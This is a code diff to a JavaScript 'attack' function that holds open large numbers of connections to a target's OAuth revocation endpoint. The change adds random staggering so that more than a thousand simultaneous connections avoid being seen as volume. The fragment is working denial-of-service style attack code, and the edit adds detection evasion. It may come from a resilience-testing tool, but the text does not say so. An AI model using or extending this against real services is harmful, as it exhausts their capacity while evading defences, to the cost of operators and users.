@@ -23,7 +23,11 @@ export async function attack({ url, until }) {
   const { hostname: host, port } = new URL(url);
   const counts = { streams: 0, idle: 0 };
   const stream = `GET /oauth/revocations HTTP/1.1\r\nHost: x\r\nAuthorization: ${basic(NOISY)}\r\n\r\n`;
+  // Like guards, not all at the same moment: more than a thousand connections at once are volume too.
+  const pause = (shortest) =>
+    new Promise((resolve) => setTimeout(resolve, PAUSE_MS * (shortest + Math.random())));
   const keep = async (kind, text) => {
+    await pause(0);
     while (!until()) {
       const socket = connect({ host, port, localAddress: ADDRESS });
       socket.on('error', () => undefined);
@@ -34,8 +38,7 @@ export async function attack({ url, until }) {
       const end = setInterval(() => until() && socket.destroy(), 100);
       await closed;
       clearInterval(end);
-      // Like guards, not all at the same moment.
-      await new Promise((resolve) => setTimeout(resolve, PAUSE_MS * (0.5 + Math.random())));
+      await pause(0.5);
     }
   };
   const streams = Array.from({ length: STREAMS }, () => keep('streams', stream));
